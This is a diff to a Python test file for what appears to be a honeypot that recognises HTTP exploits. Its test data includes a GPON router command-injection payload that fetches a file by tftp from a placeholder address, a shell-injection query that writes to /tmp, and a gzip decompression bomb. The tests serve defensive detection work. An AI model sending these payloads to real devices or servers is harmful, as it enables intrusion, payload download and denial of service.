@@ -367,10 +367,21 @@ def test_a_body_that_is_not_as_long_as_it_says(script: str, split: int) -> None:
 
 def test_a_request_that_the_end_cuts_is_still_told() -> None:
     talk = table()
-    talk.say(b"POST /GponForm/diag_Form HTTP/1.1\r\nContent-Length: 99\r\n\r\ndest_host=`id`")
+    talk.say(b"POST /GponForm/diag_Form HTTP/1.1\r\nContent-Length: 99\r\n\r\ndest_host=`tftp -g -r x 192.0.2.3`")
     talk.end()
     assert facts(talk, ExploitRecognised)
+    assert [wish.download.url for wish in talk.wishes] == ["tftp://192.0.2.3/x"]
     assert talk.sent == b""
+
+
+def test_what_was_written_is_kept_even_if_the_end_is_a_fault() -> None:
+    talk = table(host_like("product", KEEPS_ALIVE))
+    talk.say(b"GET /x?a=;echo+hello+%3E+/tmp/f HTTP/1.1\r\n\r\n")
+    bomb = gzip.compress(bytes(4 * room.INFLATED_BYTES_MAX))
+    talk.say(b"POST /x HTTP/1.1\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%b" % (len(bomb) + 1, bomb))
+    talk.end()
+    assert "compressed body" in talk.fault
+    assert ("/tmp/f", b"hello\n") in [(keep.name, keep.data) for keep in talk.kept]
 
 
 def test_the_line_stays_open_for_what_a_command_still_fetches() -> None:
